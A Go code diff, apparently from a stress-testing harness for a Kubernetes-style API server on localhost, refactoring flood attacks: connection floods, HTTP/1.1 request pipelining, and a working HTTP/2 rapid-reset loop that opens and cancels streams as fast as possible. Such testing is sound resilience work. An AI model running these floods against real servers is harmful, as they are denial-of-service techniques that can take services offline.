@@ -24,7 +24,8 @@ func floods() []Attack {
 	one := func(r Request) func() Request { return func() Request { return r } }
 	return []Attack{
 		{
-			Group: "floods", Name: "gets", Answers: 200, Does: "Gets an object on 200 connections.", Short: true,
+			Group: "floods", Name: "gets", Answers: 200,
+			Does:  "Gets an object on 200 connections.",
 			Setup: func(ctx context.Context, t *Target) error { return t.fill(ctx, 1, 100) },
 			Run:   again(200, attacker, one(get)),
 		},
@@ -34,21 +35,24 @@ func floods() []Attack {
 			Run:   again(200, attacker, one(list)),
 		},
 		{
-			Group: "floods", Name: "creates", Answers: 200, Does: "Creates small objects on 200 connections.", Short: true,
+			Group: "floods", Name: "creates", Answers: 200,
+			Does: "Creates small objects on 200 connections.",
 			Run: func(ctx context.Context, a *Attacker) error {
 				a.flood(ctx, attacker, 200, small)
 				return nil
 			},
 		},
 		{
-			Group: "floods", Name: "forbidden", Answers: 200, Does: "Does what it has no right to on 200 connections.", Forbidden: true, Short: true,
+			Group: "floods", Name: "forbidden", Answers: 200,
+			Does: "Does what it has no right to on 200 connections.", Forbidden: true,
 			Run: again(200, stranger, one(list)),
 		},
 		{
-			Group: "floods", Name: "pipelining", Does: "Sends requests on 50 HTTP/1.1 connections without reading an answer.", Short: true,
+			Group: "floods", Name: "pipelining",
+			Does:  "Sends requests on 50 HTTP/1.1 connections without reading an answer.",
 			Setup: func(ctx context.Context, t *Target) error { return t.fill(ctx, 1, 100<<10) },
 			Run: func(ctx context.Context, a *Attacker) error {
-				one := "GET " + configMaps + "/c0 HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer " + token(attacker) + "\r\n\r\n"
+				one := head("GET", configMaps+"/c0", attacker) + "\r\n"
 				return a.each(ctx, 50, "http/1.1", func(c net.Conn) error {
 					for batch := strings.Repeat(one, 1000); ; {
 						if _, err := io.WriteString(c, batch); err != nil {
@@ -59,7 +63,8 @@ func floods() []Attack {
 			},
 		},
 		{
-			Group: "floods", Name: "rapid-reset", Does: "Opens and resets streams on 8 HTTP/2 connections as fast as it can.", Short: true,
+			Group: "floods", Name: "rapid-reset",
+			Does: "Opens and resets streams on 8 HTTP/2 connections as fast as it can.",
 			Run: func(ctx context.Context, a *Attacker) error {
 				return a.each(ctx, 8, "h2", func(c net.Conn) error { return reset(c) })
 			},
@@ -101,17 +106,18 @@ func reset(c net.Conn) error {
 	if err := f.WriteSettings(); err != nil {
 		return err
 	}
-	var head strings.Builder
-	enc := hpack.NewEncoder(&head)
+	var fields strings.Builder
+	enc := hpack.NewEncoder(&fields)
 	for id := uint32(1); id < 1<<31; id += 2 {
-		head.Reset()
-		for _, h := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "localhost"}, {":path", configMaps},
-			{"authorization", "Bearer " + token(attacker)}} {
+		fields.Reset()
+		for _, h := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "localhost"},
+			{":path", configMaps}, {"authorization", "Bearer " + token(attacker)}} {
 			if err := enc.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]}); err != nil {
 				return err
 			}
 		}
-		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: []byte(head.String()), EndStream: true, EndHeaders: true}); err != nil {
+		open := http2.HeadersFrameParam{StreamID: id, BlockFragment: []byte(fields.String()), EndStream: true, EndHeaders: true}
+		if err := f.WriteHeaders(open); err != nil {
 			return err
 		}
 		if err := f.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
